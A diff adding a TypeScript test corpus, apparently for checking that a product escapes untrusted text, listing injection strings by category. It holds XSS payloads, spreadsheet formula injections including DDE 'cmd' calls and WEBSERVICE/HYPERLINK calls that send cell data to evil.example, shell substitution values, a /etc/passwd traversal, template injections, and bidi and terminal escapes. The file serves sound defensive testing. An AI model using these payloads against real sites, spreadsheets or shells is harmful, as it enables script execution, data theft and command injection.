@@ -1,0 +1,160 @@
+const point = (code: number) => String.fromCodePoint(code);
+const escapeSign = point(0x1b);
+const bell = point(0x07);
+
+/** Markup, in ways a browser has been known to obey. */
+const markup = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<body onload=alert(1)>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '" onmouseover="alert(1)',
+  "' onfocus='alert(1)' autofocus='",
+  '`onmouseover=alert(1)',
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</summary></details><script>alert(1)</script>',
+  '</td></tr></table><script>alert(1)</script>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<style>@import url(//evil.example)</style>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example>',
+  '<form action=//evil.example><input name=q></form>',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>',
+  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
+  '<embed src=//evil.example/x.swf>',
+  '<video><source onerror=alert(1)></video>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<xss style="width:expression(alert(1))">',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '&amp;lt;script&amp;gt;',
+  `<scr${point(0)}ipt>alert(1)</script>`,
+  '＜script＞alert(1)＜/script＞',
+  '<script\u2028>alert(1)</script>',
+] as const;
+
+/** What a spreadsheet would work out. */
+const formulas = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/C calc";"!A0")',
+  '+1+1',
+  "+cmd|' /C calc'!A0",
+  '-1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '@A1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  `${point(0xfeff)}=1+1`,
+  `${point(0x200b)}=1+1`,
+  `${point(0x202e)}=1+1`,
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '","=1+1","',
+  '"=1+1"',
+  '";=1+1;"',
+  '=1+1\r\n=2+2',
+  '%0A=1+1',
+] as const;
+
+/** What reorders, hides or imitates the words beside it. */
+const bidi = [
+  `a${point(0x202e)}b`,
+  `a${point(0x202d)}b${point(0x202c)}`,
+  `a${point(0x2066)}b${point(0x2069)}`,
+  `a${point(0x2067)}b`,
+  `a${point(0x2068)}b`,
+  `a${point(0x200e)}b${point(0x200f)}`,
+  `a${point(0x061c)}b`,
+  `a${point(0x200b)}b`,
+  `a${point(0x2060)}b${point(0xfeff)}`,
+  `a${point(0x00ad)}b`,
+  `a${point(0xe0041)}${point(0xe0042)}b`,
+  `a${point(0x2028)}b${point(0x2029)}c`,
+  `e${'\u0301'.repeat(80)}`,
+] as const;
+
+/** What a template language, a shell or a diagram would work out. */
+const templates = [
+  '{{7*7}}',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another language
+  '${7*7}',
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '{% raw %}x{% endraw %}',
+  '{{{raw}}}',
+  '[[7*7]]',
+  '((name))',
+  '*{7*7}',
+  '@(7*7)',
+  '$(touch x)',
+  '`touch x`',
+  ';touch x',
+  '../../etc/passwd',
+  '%s%n%x',
+  '__proto__',
+  'constructor',
+  'n1["x"] --> n2',
+  'end\nsubgraph x',
+  'click n1 href "javascript:alert(1)"',
+  '%%{init: {"theme":"dark"}}%%',
+] as const;
+
+/** What a terminal, or a reader of lines, would obey. */
+const controls = [
+  `${escapeSign}[2J${escapeSign}[31mred`,
+  `${escapeSign}]0;title${bell}`,
+  `${escapeSign}]8;;https://evil.example${bell}link${escapeSign}]8;;${bell}`,
+  `${point(0x9b)}31mred`,
+  `a${point(0)}b`,
+  `a${point(8)}${point(8)}b`,
+  'a\rb',
+  'a\nb',
+  `a${point(0x85)}b`,
+  `a${point(0x7f)}b`,
+  `a${point(0x0b)}b${point(0x0c)}c`,
+] as const;
+
+/** What Markdown would make of it. */
+const markdown = [
+  '# heading',
+  '- item',
+  '1. item',
+  '> quoted',
+  '```\ncode',
+  '| a | b |\n|---|---|',
+  '[x](javascript:alert(1))',
+  '![x](http://evil.example/x.png)',
+  '<http://evil.example>',
+  'http://evil.example',
+  'www.evil.example',
+  '[^1]: note',
+  '**bold** _it_ ~~gone~~ $x$',
+  '***',
+  '===',
+] as const;
+
+/** Texts that would do something if any form obeyed them: more than a hundred. */
+export const attacks: readonly string[] = [...markup, ...formulas, ...bidi, ...templates, ...controls, ...markdown];
